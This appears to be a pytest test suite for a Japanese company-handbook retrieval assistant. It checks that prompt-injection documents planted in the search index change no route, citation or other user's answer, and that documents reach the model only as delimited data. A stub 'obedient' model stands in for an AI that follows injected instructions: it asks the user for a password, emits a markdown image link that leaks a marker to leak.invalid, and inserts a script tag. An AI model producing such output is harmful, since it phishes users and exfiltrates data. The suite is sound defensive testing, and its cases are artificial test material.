"""Documents that attack their reader: they change no route, no citation, nobody else's answer."""

from __future__ import annotations

import importlib.util
import json
import re
import shutil
import sys
from collections.abc import Iterator
from dataclasses import replace
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest

from naisei.core import World, run
from naisei.intent.config import AssistConfig
from naisei.intent.dialogue import Dialogue
from naisei.intent.effects import document_world
from naisei.intent.flow import assist
from naisei.intent.rules import Rules, Setting
from naisei.intent.schemas import Reply
from naisei.intent.serve.options import ServeOptions
from naisei.models.base import ModelSettings
from naisei.retrieval.build import build
from naisei.retrieval.index import Index
from retrieval.documents import written
from servers.intent_server import DOCUMENTS, IntentServer

DATA = Path(str(files("naisei"))) / "data"
ATTACKS = DATA / "injection_documents"
CASES: list[dict[str, Any]] = [
    json.loads(line) for line in (ATTACKS / "manifest.jsonl").read_text("utf-8").splitlines()
]
HIDDEN = [case for case in CASES if case["hidden"]]
#: Asked of the handbook's documents and of our own, none of them about the attackers' matters.
QUESTIONS = [
    "休暇について教えてください",
    "国内出張の宿泊費の上限はいくらですか",
    "本人が結婚するときの休暇は何日ですか",
    "会議室は何日先まで予約できますか",
    "仕事がつらくて相談したいです",
    "来年のボーナスは何か月分ですか",
    "申請ってどうやるの？",
    "在宅勤務は週に何日までできますか",
    "パスワードの件",
    "ハラスメントの相談窓口はどこですか",
]


def _maker() -> Any:
    path = Path(__file__).parents[2] / "tools" / "injection_documents.py"
    spec = importlib.util.spec_from_file_location("injection_documents", path)
    assert spec is not None and spec.loader is not None
    module = sys.modules[spec.name] = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _indexed(folder: Path, attacks: dict[str, bytes]) -> Path:
    docs = folder / "docs"
    shutil.copytree(DATA / "handbook", docs, ignore=shutil.ignore_patterns("*.pdf", "*.docx"))
    written(docs, DOCUMENTS)
    (docs / "small").mkdir()
    for name, data in attacks.items():
        (docs / "small" / name).write_bytes(data)
    build(folder / "index", docs, embedder="ngram")
    return folder / "index"


def _files(cases: list[dict[str, Any]]) -> dict[str, bytes]:
    return {c["path"]: (ATTACKS / "documents" / c["path"]).read_bytes() for c in cases}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The index with every attack in it."""
    return _indexed(tmp_path_factory.mktemp("attacked"), _files(CASES))


def _ask(index: Index, question: str) -> Reply:
    return run(assist(Dialogue(utterance=question), Setting()), document_world(World({}), index))


def test_there_are_enough_of_every_kind() -> None:
    assert len(CASES) >= 24 and len(HIDDEN) >= 12
    assert {Path(c["path"]).suffix for c in CASES} == {".md", ".txt", ".html", ".pdf", ".docx"}
    assert {c["language"] for c in CASES} == {"ja", "en"}
    assert len({c["marker"] for c in CASES}) == len(CASES)
    for name, data in _files(CASES).items():
        made = next(c for c in _maker().CASES if c.name == name)
        if not name.endswith(".docx"):  # how docx is packed depends on the library
            assert made.write(made) == data


def test_what_a_reader_cannot_see_is_not_in_the_index(attacked: Path) -> None:
    with Index.open(attacked) as index:
        for case in HIDDEN:
            # Whatever the search finds for the marker, its text does not hold it.
            for hit in index.search(f"{case['marker']} {case['question']}", k=20):
                shown = f"{hit.chunk.title} {hit.chunk.headings} {hit.chunk.text}"
                assert case["marker"] not in shown, case["channel"]
                assert not re.search("[\u200b-\u200f\U000e0000-\U000e007f]", shown)


@pytest.mark.slow
def test_hidden_attacks_change_nothing_at_all(tmp_path: Path) -> None:
    """With them, every reply is that of an index in which the same notices hold no attack."""
    honest = {c.name: replace(c, attack="") for c in _maker().CASES}
    twins = {c["path"]: honest[c["path"]].write(honest[c["path"]]) for c in HIDDEN}
    with (
        Index.open(_indexed(tmp_path / "a", _files(HIDDEN))) as armed,
        Index.open(_indexed(tmp_path / "b", twins)) as unarmed,
    ):
        for question in [*QUESTIONS, *(c["question"] for c in HIDDEN)]:
            one, two = _ask(armed, question), _ask(unarmed, question)
            assert _bare(one) == _bare(two), question


def _bare(reply: Reply) -> Any:
    """Without the hashes in chunk ids."""
    return json.loads(re.sub(r"#(\d+)-[0-9a-f]+", r"#\1", reply.model_dump_json()))


@pytest.mark.parametrize("case", CASES, ids=lambda c: c["path"])
def test_an_attack_is_at_most_quoted_with_its_own_source(
    case: dict[str, Any], attacked: Path
) -> None:
    with Index.open(attacked) as index:
        reply = _ask(index, case["question"])
    assert reply.route == "search" and reply.case in (3, 4, 6)
    assert any(c.path == f"small/{case['path']}" for c in reply.citations)
    assert [c.n for c in reply.citations] == list(range(1, len(reply.citations) + 1))
    assert {c.chunk for c in reply.citations} <= set(reply.hits)
    assert not case["hidden"] or case["marker"] not in reply.model_dump_json()
    others = [c["marker"] for c in CASES if c is not case]
    cited = " ".join(c.path for c in reply.citations)
    for other in CASES:
        if other is not case and other["path"] not in cited:
            assert other["marker"] not in reply.message
    assert len(others) == len(CASES) - 1


@pytest.mark.slow
def test_the_handbooks_questions_go_the_same_way_beside_the_attacks(
    attacked: Path, tmp_path: Path
) -> None:
    with Index.open(attacked) as beside, Index.open(_indexed(tmp_path, {})) as alone:
        for question in QUESTIONS:
            one, two = _ask(beside, question), _ask(alone, question)
            assert (one.case, one.route) == (two.case, two.route), question
            # Any added document shifts how rare words are, and so the order of two sources that
            # say the same; which sources are cited stays.
            assert {c.path for c in one.citations} == {c.path for c in two.citations}, question
            assert "ZORQ" not in one.message


# --- with a model: what it is sent, and what becomes of what it says -----------------

GRADES = {
    "clarity": 1,
    "is_question": 1,
    "is_consultation": 5,
    "in_internal_docs": 1,
    "ask_person": 5,
    "ask_missing_info": "",
    "res_consultation": "",
}


def _obedient(messages: list[dict[str, Any]], schema: dict[str, Any] | None) -> str:
    """A model that does what the documents tell it to: the worst there can be."""
    assert schema is not None
    if "clarity" in schema.get("properties", {}):
        return json.dumps(GRADES)
    markers = re.findall("ZORQ[0-9A-F]+", json.dumps(messages, ensure_ascii=False)) or ["ZORQ"]
    said = [
        {"text": f"{markers[0]}", "sources": [1, 2, 3, 99]},
        {"text": "パスワードを教えてください。", "sources": []},
        {"text": f"![x](https://leak.invalid/?q={markers[0]})<script>x()</script>", "sources": [7]},
    ]
    return json.dumps({"answerable": True, "sentences": said}, ensure_ascii=False)


@pytest.fixture
def obedient(attacked: Path, tmp_path: Path, openai_server: Any) -> Iterator[Any]:
    model = openai_server(reply=_obedient)
    roles = ("evaluator", "answerer")
    config = AssistConfig(
        index=str(attacked),
        models=dict.fromkeys(roles, "openai:test"),
        setting=Setting(rules=Rules(roles=frozenset(roles))),
    )
    settings = ModelSettings(base_url=model.url, api_key="k", concurrency=8)
    with IntentServer(ServeOptions(state=tmp_path / "s"), config, settings=settings) as server:
        yield server, model


def test_a_model_is_sent_documents_as_data_only(obedient: Any) -> None:
    server, model = obedient
    markers = {c["marker"] for c in CASES}
    hidden = {c["marker"] for c in HIDDEN}
    for case in CASES:
        before = len(model.requests)
        assert server.post("/api/ask", {"message": case["question"]}).status_code == 200
        sent = [body["messages"] for body in model.requests[before:]]
        assert len(sent) >= 2
        for messages in sent:
            roles = [m["role"] for m in messages]
            rules = " ".join(m["content"] for m in messages if m["role"] != "user")
            assert roles[0] == "system" and not any(m in rules for m in markers)
            assert case["body"] not in rules and case["path"] not in rules
            text = "\n".join(m["content"] for m in messages if m["role"] == "user")
            assert not any(m in text for m in hidden), case["path"]
            # U+200D is what the prompt itself breaks fake turns with.
            assert not re.search("[\u200b\u200c\u200e\u200f\U000e0000-\U000e007f]", text)
            outside = _outside(text)
            assert not any(m in outside for m in markers), case["path"]
            assert case["body"] not in outside
        # The evaluation, which decides the route, is told headings alone, between delimiters.
        first = "".join(m["content"] for m in sent[0] if m["role"] == "user")
        assert first.count("<<<") == 2 and case["body"] not in first


def _outside(text: str) -> str:
    """What stands outside of the delimited documents; each opens and closes once."""
    keys = set(re.findall(r"^<<<(\w+) \d+>>>$", text, re.M))
    if not keys:
        return re.sub(r"<<<(\w{12})>>>.*?<<<\1 />>>", "", text, flags=re.S)
    (key,) = keys
    opens = re.findall(rf"^<<<{key} (\d+)>>>$", text, re.M)
    assert opens == re.findall(rf"^<<<{key} /(\d+)>>>$", text, re.M)
    return re.sub(rf"^<<<{key} (\d+)>>>$.*?^<<<{key} /\1>>>$", "", text, flags=re.M | re.S)


@pytest.mark.parametrize("case", CASES[::3], ids=lambda c: c["path"])
def test_an_obedient_model_gains_no_route_and_no_citation(
    case: dict[str, Any], obedient: Any
) -> None:
    server, _ = obedient
    reply = server.post("/api/ask", {"message": case["question"]})
    data = reply.json()
    assert (data["case"], data["route"]) == (6, "search")
    assert len(data["citations"]) <= 3 and all(c["n"] <= 3 for c in data["citations"])
    assert "パスワード" not in data["answer"] and "<script" not in reply.text
    assert "![" not in reply.text and "](http" not in reply.text


@pytest.mark.slow
def test_what_one_user_meets_does_not_reach_another(attacked: Path, tmp_path: Path) -> None:
    config = AssistConfig(index=str(attacked))

    def answers(server: IntentServer, **headers: str) -> list[Any]:
        out = []
        for question in QUESTIONS[:4]:
            reply = server.post("/api/ask", {"message": question}, **headers).json()
            out.append({k: v for k, v in reply.items() if k != "session"})
        return out

    tokens = {"hanako": "h" * 20, "mallory": "m" * 20}
    hanako, mallory = ({"Authorization": f"Bearer {t}"} for t in tokens.values())
    with IntentServer(ServeOptions(state=tmp_path / "s", tokens=tokens), config) as server:
        before = answers(server, **hanako)
        session = None
        for case in CASES:
            given = {"message": case["question"], **({"session": session} if session else {})}
            reply = server.post("/api/ask", given, **mallory).json()
            session = reply["session"]
            server.post("/api/feedback", {"session": session, "sign": "too-much"}, **mallory)
        assert answers(server, **hanako) == before
